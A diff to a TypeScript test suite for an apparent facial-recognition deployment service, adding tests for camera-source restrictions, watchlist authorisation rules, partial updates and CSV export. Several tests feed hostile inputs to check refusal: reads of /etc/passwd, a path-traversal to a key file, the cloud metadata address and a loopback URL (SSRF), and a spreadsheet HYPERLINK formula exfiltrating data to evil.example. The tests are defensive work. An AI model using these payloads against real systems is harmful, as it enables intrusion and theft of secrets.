@@ -3,6 +3,7 @@
 // watchlist (R7-R13), alerts and their adjudication (R21, R23), and the record (R24).
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { openTestServices, recordTestAssessments, type TestServices } from '../app/testing.ts';
 import { testDatabases } from '../db/testing.ts';
@@ -46,12 +47,32 @@ for (const target of testDatabases()) {
             dateOfBirth: dob,
             images: [{ bytes: lfw(name, n), source: 'custody', legalBasis: 'PACE s64A', reason: 'arrest' }],
           },
-          'enroller',
+          { username: 'enroller', roles: ['watchlist-manager'] },
         );
         subjects[name] = r.subject.id;
       }
     });
     after(() => s.close());
+
+    /** A file camera in the default camera folder, `<dataDir>/footage` (issue 12). */
+    const footage = (name: string) => ({ kind: 'file' as const, path: join(s.dataDir, 'footage', name) });
+    const auditOf = (id: string) =>
+      s.database.db
+        .selectFrom('audit_log')
+        .select(['action', 'actor', 'outcome', 'details_json'])
+        .where('target_id', '=', id)
+        .orderBy('seq')
+        .execute();
+    /** A deployment with one entry, authorised by someone who compiled nothing. */
+    const authorisedOne = async (name: string) => {
+      const d = await s.deployments.create(draft({ name }), 'planner');
+      await s.watchlists.addEntry(
+        d.id,
+        { subjectId: subjects['Colin_Powell']!, category: 'wanted by the courts', reason: 'warrant 12' },
+        'wl.manager',
+      );
+      return s.deployments.authorise(d.id, 'proportionate', 'auth.officer');
+    };
 
     const draft = (extra: Partial<DraftInput> = {}): DraftInput => ({
       name: 'Oxford Circus',
@@ -186,9 +207,9 @@ for (const target of testDatabases()) {
       await assert.rejects(s.deployments.start(d!.id, 'operator'), problem(/R2: the authorised window opens/));
       clock = new Date('2026-11-22T10:30:00Z');
       await assert.rejects(s.deployments.start(d!.id, 'operator'), problem(/R1: no cameras/));
-      await s.deployments.addCamera(d!.id, 'north exit', { kind: 'file', path: '/dev/null' }, 'operator');
+      await s.deployments.addCamera(d!.id, 'north exit', footage('north.mp4'), 'operator');
       await assert.rejects(
-        s.deployments.addCamera(d!.id, 'second', { kind: 'file', path: '/dev/null' }, 'operator'),
+        s.deployments.addCamera(d!.id, 'second', footage('north.mp4'), 'operator'),
         refused('camera-count'),
       );
 
@@ -320,7 +341,7 @@ for (const target of testDatabases()) {
         { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'warrant 9' },
         'wl.manager',
       );
-      await s.deployments.addCamera(d.id, 'cam', { kind: 'file', path: '/dev/null' }, 'planner');
+      await s.deployments.addCamera(d.id, 'cam', footage('north.mp4'), 'planner');
       await s.deployments.authorise(d.id, 'urgent', 'auth.officer');
       await s.deployments.start(d.id, 'operator');
       const [entry] = await s.watchlists.entries(d.id);
@@ -345,6 +366,108 @@ for (const target of testDatabases()) {
       await assert.rejects(s.media.get(entry!.image_media_id!), /does not exist/);
       const entries = await s.watchlists.entries(d.id);
       assert.ok(entries.every((e) => e.template_sealed === null && e.image_media_id === null));
+    });
+
+    it('issue 12: a camera reads only from the configured folders and hosts; a refused source is audited', async () => {
+      const d = await s.deployments.create(draft({ name: 'camera sources', camera_count: 4 }), 'planner');
+      for (const [source, reason] of [
+        [{ kind: 'file', path: '/etc/passwd' }, 'path-not-allowed'],
+        [{ kind: 'folder', path: join(s.dataDir, 'secrets') }, 'path-forbidden'],
+        [{ kind: 'file', path: join(s.dataDir, 'footage', '..', 'secrets', 'media.key') }, 'path-forbidden'],
+        [{ kind: 'http', url: 'http://169.254.169.254/latest/meta-data/' }, 'address-forbidden'],
+        [{ kind: 'http', url: 'http://127.0.0.1:8080/v1/users' }, 'self-address'],
+        [{ kind: 'rtsp', url: 'rtsp://cam1.example.org/stream' }, 'host-not-allowed'],
+      ] as const) {
+        await assert.rejects(
+          s.deployments.addCamera(d.id, 'cam', source, 'planner'),
+          (e: unknown) =>
+            e instanceof DomainError && e.code === 'camera-source-refused' && e.details?.['reason'] === reason,
+          JSON.stringify(source),
+        );
+      }
+      assert.deepEqual(await s.deployments.cameras(d.id), []);
+      const refusals = (await auditOf(d.id)).filter((a) => a.action === 'camera.refused');
+      assert.equal(refusals.length, 6);
+      assert.ok(refusals.every((a) => a.outcome === 'denied' && a.actor === 'planner'));
+      assert.ok(!refusals.some((a) => a.details_json.includes('169.254') || a.details_json.includes('passwd')));
+      await s.deployments.addCamera(d.id, 'ok', footage('street.mp4'), 'planner');
+    });
+
+    it('issue 12, R30: whoever ever added to the watchlist may not authorise it, even once their entries are gone', async () => {
+      const d = await s.deployments.create(draft({ name: 'removed compiler' }), 'planner');
+      const mine = await s.watchlists.addEntry(
+        d.id,
+        { subjectId: subjects['Colin_Powell']!, category: 'wanted by the courts', reason: 'warrant 30' },
+        'wl.first',
+      );
+      await s.watchlists.addEntry(
+        d.id,
+        { subjectId: subjects['Jacques_Chirac']!, category: 'wanted by the courts', reason: 'warrant 31' },
+        'wl.second',
+      );
+      await s.watchlists.removeEntry(d.id, mine.id, 'wl.second');
+      assert.ok(!(await s.watchlists.entries(d.id)).some((e) => e.added_by === 'wl.first'));
+      await assert.rejects(s.deployments.authorise(d.id, 'ok', 'wl.first'), problem(/R30: you added entries/));
+      await assert.rejects(s.deployments.authorise(d.id, 'ok', 'wl.second'), problem(/R30: you added entries/));
+      assert.equal((await s.deployments.authorise(d.id, 'ok', 'auth.officer')).status, 'authorised');
+    });
+
+    it('issue 12, R3: an update changes only what differs; a no-op records nothing; a new name keeps the authorisation', async () => {
+      const d = await authorisedOne('partial update');
+      const before = await auditOf(d.id);
+      const same = await s.deployments.update(
+        d.id,
+        {
+          location_name: d.location_name,
+          notice: JSON.parse(d.notice_json),
+          categories: JSON.parse(d.categories_json),
+        },
+        'planner',
+      );
+      assert.deepEqual(same, d, 'nothing changed');
+      assert.equal((await auditOf(d.id)).length, before.length, 'a no-op records nothing');
+
+      const renamed = await s.deployments.update(d.id, { name: 'partial update (renamed)' }, 'planner');
+      assert.equal(renamed.status, 'authorised', 'the name is not what was authorised');
+      assert.equal(renamed.authorised_json, d.authorised_json);
+      assert.equal(renamed.location_name, d.location_name);
+
+      const moved = await s.deployments.update(d.id, { location_name: 'Bond Street' }, 'planner');
+      assert.equal(moved.status, 'draft', 'R3: a new location needs a new authorisation');
+      assert.equal(moved.name, 'partial update (renamed)');
+      const voided = (await auditOf(d.id)).find((a) => a.action === 'deployment.authorisation-voided');
+      assert.deepEqual(JSON.parse(voided!.details_json)['fields'], ['location_name']);
+    });
+
+    it('issue 12: going live re-checks the camera sources against the rules in force', async () => {
+      const d = await authorisedOne('rules changed');
+      clock = new Date('2026-11-22T10:30:00Z');
+      // A camera stored before the rules (as an older installation may hold one).
+      await s.database.db
+        .insertInto('cameras')
+        .values({
+          id: '00000000-0000-4000-8000-000000000012',
+          deployment_id: d.id,
+          name: 'old',
+          source_json: JSON.stringify({ kind: 'file', path: '/etc/passwd' }),
+          created_at: new Date().toISOString(),
+          gaps_json: '[]',
+        })
+        .execute();
+      await assert.rejects(
+        s.deployments.start(d.id, 'operator'),
+        problem(/camera "old": its source is not allowed \(path-not-allowed\)/),
+      );
+    });
+
+    it('issue 12: the deployment record CSV neutralises formula-led text', async () => {
+      const d = await s.deployments.create(
+        draft({ name: '=HYPERLINK("http://evil.example/?"&A1,"x")', deployment_type: '+overt LFR' }),
+        'planner',
+      );
+      const [, row] = recordsToCsv([deploymentRecord(d, [], [])]).split('\r\n');
+      assert.match(row!, /^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""x""\)",/);
+      assert.match(row!, /,'\+overt LFR,/);
     });
   });
 }
